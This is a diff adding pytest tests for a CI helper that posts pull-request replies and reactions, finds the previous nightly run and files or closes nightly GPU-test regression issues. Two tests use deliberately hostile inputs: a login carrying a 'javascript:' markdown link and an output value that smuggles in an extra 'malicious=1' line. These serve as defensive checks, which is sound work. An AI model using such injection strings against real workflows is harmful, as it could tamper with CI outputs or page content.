+    assert gh("comment", "--pr", "7", "--body", str(tmp_path / "absent.md")) == 2
+    assert "comment body" in capsys.readouterr().err
+
+
+def test_previous_comment_is_saved_for_the_next_report(fake, env, tmp_path):
+    fake.add_pull(7)
+    saved = tmp_path / "previous.md"
+    assert gh("previous-comment", "--pr", "7", "-o", str(saved)) == 0
+    assert not saved.exists()
+    fake.add_comment(7, BOT, f"{MARKER}\n<!-- digest: abc -->\n")
+    assert gh("previous-comment", "--pr", "7", "-o", str(saved)) == 0
+    assert saved.read_text() == f"{MARKER}\n<!-- digest: abc -->\n"
+
+
+# --------------------------------------------------------------------------- reply and react
+
+
+def test_refusal_reply_is_posted_once_per_request(fake, env, tmp_path):
+    fake.add_pull(7)
+    event = comment_event(tmp_path, "/ok to test abc1234", "drive-by")
+    reason = body_file(tmp_path, "`drive-by` has read access to octo-org/harness\n", "reason.txt")
+    assert gh("reply", "--event", str(event), "--body", str(reason)) == 0
+    assert gh("reply", "--event", str(event), "--body", str(reason)) == 0  # a re-run of the job
+    [reply] = fake.comments[7]
+    assert reply["body"].startswith("<!-- harness-reply:555001 -->\n"
+                                    "@drive-by, the GPU tests were not started: `drive-by` has read access")
+
+
+def test_reply_does_not_mention_a_login_it_cannot_vouch_for(fake, env, tmp_path):
+    fake.add_pull(7)
+    event = comment_event(tmp_path, "/ok to test x", "weird login](javascript:x)")
+    assert gh("reply", "--event", str(event), "--body", str(body_file(tmp_path, "no", "r.txt"))) == 0
+    assert fake.comments[7][0]["body"].endswith("\nThe GPU tests were not started: no\n")
+
+
+def test_reaction_is_added_once(fake, env, tmp_path):
+    event = comment_event(tmp_path, f"/ok to test {HEAD}")
+    assert gh("react", "--event", str(event)) == 0
+    assert gh("react", "--event", str(event)) == 0  # GitHub answers 200 for an existing one
+    assert fake.reactions == {555001: {"rocket"}}
+    assert [entry[2] for entry in fake.requests("POST", r"/reactions$")] == [{"content": "rocket"}] * 2
+
+
+def test_unknown_reaction_is_a_config_error(env, tmp_path, capsys):
+    assert gh("react", "--event", str(comment_event(tmp_path, "x")), "--content", "party") == 2
+    assert "--content 'party'" in capsys.readouterr().err
+
+
+# --------------------------------------------------------------------------- previous night's run
+
+
+def workflow_run(run_id: int, conclusion: str, branch: str = "main") -> dict:
+    return {"id": run_id, "name": "nightly", "path": ".github/workflows/nightly.yml", "head_branch": branch,
+            "head_sha": f"{run_id:040x}", "run_number": run_id % 100, "event": "schedule",
+            "status": "completed", "conclusion": conclusion,
+            "html_url": f"https://github.com/{REPO}/actions/runs/{run_id}",
+            "created_at": "2026-11-29T02:17:00Z"}
+
+
+def artifact(name: str, expired: bool = False) -> dict:
+    return {"id": abs(hash(name)) % 10**6, "name": name, "size_in_bytes": 4096, "expired": expired,
+            "archive_download_url": "https://api.github.com/..."}
+
+
+def test_previous_run_skips_this_run_cancelled_runs_and_expired_results(fake, env, monkeypatch):
+    monkeypatch.setenv("GITHUB_RUN_ID", "900")
+    fake.runs = [workflow_run(900, "failure"), workflow_run(899, "cancelled"), workflow_run(898, "success"),
+                 workflow_run(897, "failure"), workflow_run(896, "success")]
+    fake.artifacts = {898: [artifact("results-h200-2gpu", expired=True), artifact("nightly-report")],
+                      897: [artifact("nightly-report"), artifact("results-ada-2gpu-torch2.11.0-tf5.9.0")]}
+    assert gh("previous-run", "--workflow", "nightly.yml", "--branch", "main") == 0
+    assert outputs(env) == {"run_id": "897", "sha": f"{897:040x}"}
+    assert not fake.requests("GET", r"/runs/(900|899)/artifacts")
+
+
+def test_no_previous_run_leaves_the_output_empty(fake, env, capsys):
+    fake.runs = [workflow_run(5, "success", branch="feature")]
+    assert gh("previous-run", "--workflow", "nightly.yml", "--branch", "main") == 0
+    assert outputs(env) == {"run_id": "", "sha": ""}
+    assert "no earlier run" in capsys.readouterr().out
+
+
+# --------------------------------------------------------------------------- nightly regression issue
+
+
+def write_cell(root: Path, cell_id: str, status: str, tests: dict[str, tuple[str, float | None]],
+               gpu_peak: float | None = None, error: str | None = None) -> None:
+    """A results folder in the shape `harness run` writes: env.json, junit.xml (xunit1), memory.json."""
+    folder = root / cell_id
+    folder.mkdir(parents=True)
+    (folder / "env.json").write_text(json.dumps({
+        "schema": 1,
+        "cell": {"id": cell_id, "gpu": "h200", "gpus": 2, "torch": "2.13.0", "transformers": "5.24.0",
+                 "matrix": "nightly", "labels": ["self-hosted"], "timeout_minutes": 80, "reruns": 0,
+                 "suite": ["tests/gpu"]},
+        "status": status, "error": error,
+        "exit_code": None if status == "errored" else int(status != "passed"),
+        "versions": {}, "gpus": [], "driver": None, "host": "gpu-01", "runner": None, "git_sha": HEAD,
+        "start": "2026-11-30T02:20:00Z", "end": "2026-11-30T02:40:00Z", "duration_s": 1200.0,
+        "reproduce": f"harness run --matrix nightly --cell '{cell_id}'"}))
+    cases = []
+    for name, (outcome, peak) in tests.items():
+        props = f'<properties><property name="peak_allocated_mib.rank0" value="{peak}"/>' \
+                f'<property name="world_size" value="2"/></properties>' if peak is not None else ""
+        result = {"passed": "", "failed": '<failure message="assert">trace</failure>',
+                  "error": '<error message="boom">trace</error>',
+                  "skipped": '<skipped message="needs 4 GPUs"/>'}
+        cases.append(f'<testcase classname="tests.gpu.test_ep" name="{name}" time="1.0">{props}'
+                     f'{result[outcome]}</testcase>')
+    (folder / "junit.xml").write_text('<?xml version="1.0" encoding="utf-8"?>\n<testsuites>'
+                                      f'<testsuite name="pytest">{"".join(cases)}</testsuite></testsuites>')
+    if gpu_peak is not None:
+        (folder / "memory.json").write_text(json.dumps({
+            "schema": 1, "available": True, "reason": None, "interval_s": 0.05, "sample_count": 100,
+            "gpus": [{"index": 0, "name": "NVIDIA H200", "uuid": "GPU-1", "total_mib": 143771.0,
+                      "used_before_mib": 500.0, "peak_used_mib": gpu_peak, "interval_s": 0.05,
+                      "sample_count": 100}]}))
+
+
+CELL = "h200-2gpu-torch2.13.0-tf5.24.0"
+
+
+def cells(tmp_path: Path, name: str, **tests: tuple[str, float | None]) -> Path:
+    root = tmp_path / name
+    status = "passed" if all(outcome in ("passed", "skipped") for outcome, _ in tests.values()) else "failed"
+    write_cell(root, CELL, status, tests)
+    return root
+
+
+REGRESSION_CASES = [
+    # tonight, last night, expected finding (None: nothing regressed)
+    ({"t": ("failed", None)}, {"t": ("passed", None)},
+     f"`{CELL}` `tests.gpu.test_ep::t` failed (was passed)"),
+    ({"t": ("error", None)}, {"t": ("skipped", None)}, "error (was skipped)"),
+    ({"t": ("failed", None)}, {"t": ("failed", None)}, None),  # still failing: not new
+    ({"t": ("failed", None), "u": ("passed", None)}, {"u": ("passed", None)}, "failed (new test)"),
+    ({"t": ("failed", None)}, None, "failed (no result the night before)"),
+    ({"t": ("passed", 500.0)}, {"t": ("passed", 400.0)},
+     "peak_allocated_mib.rank0 grew from 400 to 500 MiB (+25%)"),
+    ({"t": ("passed", 450.0)}, {"t": ("passed", 400.0)}, None),  # +50 MiB: under 64 MiB
+    ({"t": ("passed", 9000.0)}, {"t": ("passed", 8500.0)}, None),  # +500 MiB but under 10%
+    ({"t": ("passed", 300.0)}, {"t": ("passed", 400.0)}, None),  # shrank
+]
+
+
+@pytest.mark.parametrize(("tonight", "last_night", "expected"), REGRESSION_CASES)
+def test_find_regressions(tmp_path, tonight, last_night, expected):
+    current = github.read_cells(cells(tmp_path, "now", **tonight))
+    baseline = github.read_cells(cells(tmp_path, "before", **last_night)) if last_night is not None else None
+    findings = github.find_regressions(current, baseline, github.GrowthLimit())
+    if expected is None:
+        assert findings == []
+    else:
+        assert len(findings) == 1 and expected in findings[0], findings
+
+
+def test_errored_cells_and_gpu_memory_growth(tmp_path):
+    write_cell(tmp_path / "now", "ada-a", "errored", {}, error="pip: no matching distribution for torch==9")
+    (tmp_path / "now" / "ada-b").mkdir()  # died before writing anything but a log
+    (tmp_path / "now" / "ada-b" / "pytest.log").write_text("Killed")
+    write_cell(tmp_path / "now", "h200-c", "passed", {"t": ("passed", None)}, gpu_peak=2000.0)
+    write_cell(tmp_path / "before", "ada-a", "passed", {"t": ("passed", None)})
+    write_cell(tmp_path / "before", "h200-c", "passed", {"t": ("passed", None)}, gpu_peak=1500.0)
+    now, before = github.read_cells(tmp_path / "now"), github.read_cells(tmp_path / "before")
+    findings = github.find_regressions(now, before, github.GrowthLimit())
+    assert findings == [
+        "`ada-a` errored: pip: no matching distribution for torch==9",
+        "`ada-b` errored: env.json is missing or has no valid status in ada-b",
+        "`h200-c` GPU 0 peak used memory grew from 1,500 to 2,000 MiB (+33%)",
+    ]
+
+
+@pytest.mark.parametrize(("name", "content"), [
+    ("env.json", "{not json"), ("env.json", "[]"), ("env.json", '{"status": "green"}'),
+    ("junit.xml", "<testsuites><testcase"), ("memory.json", '{"gpus": 3}'),
+    ("memory.json", '{"gpus": ["junk", {"index": 0, "peak_used_mib": null}]}'),
+])
+def test_broken_files_never_crash_the_check(tmp_path, name, content):
+    write_cell(tmp_path, CELL, "passed", {"t": ("passed", 100.0)}, gpu_peak=1000.0)
+    (tmp_path / CELL / name).write_text(content)
+    cell = github.read_cell(tmp_path / CELL)
+    assert cell.status == ("errored" if name == "env.json" else "passed")
+    assert len(cell.tests) == (0 if name == "junit.xml" else 1)
+    assert cell.gpu_peaks_mib == ({} if name == "memory.json" else {0: 1000.0})
+
+
+def nightly(tmp_path: Path, results: Path, baseline: Path | None = None) -> int:
+    report = body_file(tmp_path, "| cell | result |\n| --- | --- |\n", "summary.md")
+    argv = ["nightly-issue", "--results", str(results), "--report", str(report), "--sha", HEAD]
+    return gh(*argv, *(["--baseline", str(baseline)] if baseline else []))
+
+
+def open_issue(fake: FakeGitHub) -> dict:
+    return fake.add_issue("Nightly regression: nightly", "<!-- harness-nightly -->\nold",
+                          ["nightly-regression"])
+
+
+@pytest.fixture
+def nightly_env(env, monkeypatch):
+    monkeypatch.setenv("GITHUB_RUN_ID", "4242")
+    monkeypatch.setenv("GITHUB_SERVER_URL", "https://github.com")
+    return env
+
+
+def test_a_regression_opens_one_labelled_issue(fake, nightly_env, tmp_path, capsys):
+    before = cells(tmp_path, "before", t=("passed", None))
+    now = cells(tmp_path, "now", t=("failed", None))
+    assert nightly(tmp_path, now, before) == 0
+    [issue] = fake.issues.values()
+    assert issue["title"] == "Nightly regression: nightly"
+    assert issue["labels"] == [{"name": "nightly-regression"}]
+    assert issue["body"].startswith("<!-- harness-nightly -->\nNightly `nightly` on `6dcb09b5b578` "
+                                    f"([run](https://github.com/{REPO}/actions/runs/4242)), "
+                                    "compared with the night before:")
+    assert f"- `{CELL}` `tests.gpu.test_ep::t` failed (was passed)" in issue["body"]
+    assert "| cell | result |" in issue["body"]
+    assert capsys.readouterr().out.strip() == f"opened issue #{issue['number']}"
+
+
+def test_a_second_regression_updates_the_open_issue_and_comments_once(fake, nightly_env, tmp_path):
+    issue = open_issue(fake)
+    fake.add_issue("Something else", "<!-- harness-nightly -->\nnot labelled", [])
+    before = cells(tmp_path, "before", t=("passed", None), u=("passed", None))
+    now = cells(tmp_path, "now", t=("failed", None), u=("failed", None))
+    assert nightly(tmp_path, now, before) == 0
+    assert nightly(tmp_path, now, before) == 0  # the job re-run
+    assert len(fake.issues) == 2 and "failed (was passed)" in issue["body"]
+    [comment] = fake.comments[issue["number"]]
+    assert comment["body"].startswith("<!-- harness-nightly:4242 -->\nRegressed again on `6dcb09b5b578`")
+
+
+def test_persisting_failures_refresh_the_issue_without_a_new_comment(fake, nightly_env, tmp_path):
+    issue = open_issue(fake)
+    both = cells(tmp_path, "now", t=("failed", None))
+    assert nightly(tmp_path, both, cells(tmp_path, "before", t=("failed", None))) == 0
+    assert "nothing new since the night before" in issue["body"] and fake.comments[issue["number"]] == []
+
+
+def test_persisting_failures_without_an_open_issue_post_nothing(fake, nightly_env, tmp_path):
+    both = cells(tmp_path, "now", t=("failed", None))
+    assert nightly(tmp_path, both, cells(tmp_path, "before", t=("failed", None))) == 0
+    assert fake.issues == {} and not fake.requests("POST")
+
+
+def test_first_night_without_a_baseline_reports_every_failure(fake, nightly_env, tmp_path):
+    now = cells(tmp_path, "now", t=("failed", None))
+    assert nightly(tmp_path, now, tmp_path / "baseline-not-downloaded") == 0
+    [issue] = fake.issues.values()
+    assert "compared with no earlier results" in issue["body"]
+    assert "no result the night before" in issue["body"]
+
+
+def test_green_night_closes_the_issue_with_a_comment(fake, nightly_env, tmp_path, capsys):
+    issue = open_issue(fake)
+    now = cells(tmp_path, "now", t=("passed", None), s=("skipped", None))
+    assert nightly(tmp_path, now, cells(tmp_path, "before", t=("failed", None))) == 0
+    assert issue["state"] == "closed" and issue["state_reason"] == "completed"
+    [comment] = fake.comments[issue["number"]]
+    assert "All green again on `6dcb09b5b578`" in comment["body"]
+    assert capsys.readouterr().out.strip() == f"closed issue #{issue['number']}"
+
+
+def test_green_night_without_an_issue_posts_nothing(fake, nightly_env, tmp_path):
+    fake.add_issue("Nightly regression: nightly", "<!-- harness-nightly -->\nold", ["nightly-regression"],
+                   state="closed")
+    fake.add_issue("Nightly regression: nightly", "<!-- harness-nightly -->\nby hand", ["nightly-regression"],
+                   login="someone")
+    assert nightly(tmp_path, cells(tmp_path, "now", t=("passed", None))) == 0
+    assert not fake.requests("POST") and not fake.requests("PATCH")
+
+
+def test_nightly_needs_results(env, tmp_path, capsys):
+    (tmp_path / "empty").mkdir()
+    assert nightly(tmp_path, tmp_path / "empty") == 2
+    assert "no cell folders" in capsys.readouterr().err
+
+
+# --------------------------------------------------------------------------- small pieces
+
+
+def test_outputs_refuse_values_that_would_add_lines(env):
+    with pytest.raises(GitHubError, match="unexpected characters"):
+        github.write_outputs({"sha": "abc\nmalicious=1"})
+    assert env.read_text() == ""
+
+
+def test_fit_body_leaves_short_bodies_alone():
+    assert github.fit_body("short") == "short"
+    cut = github.fit_body("line\n" * 100, limit=200)
+    assert len(cut) <= 200 and cut.startswith("line\nline\n")
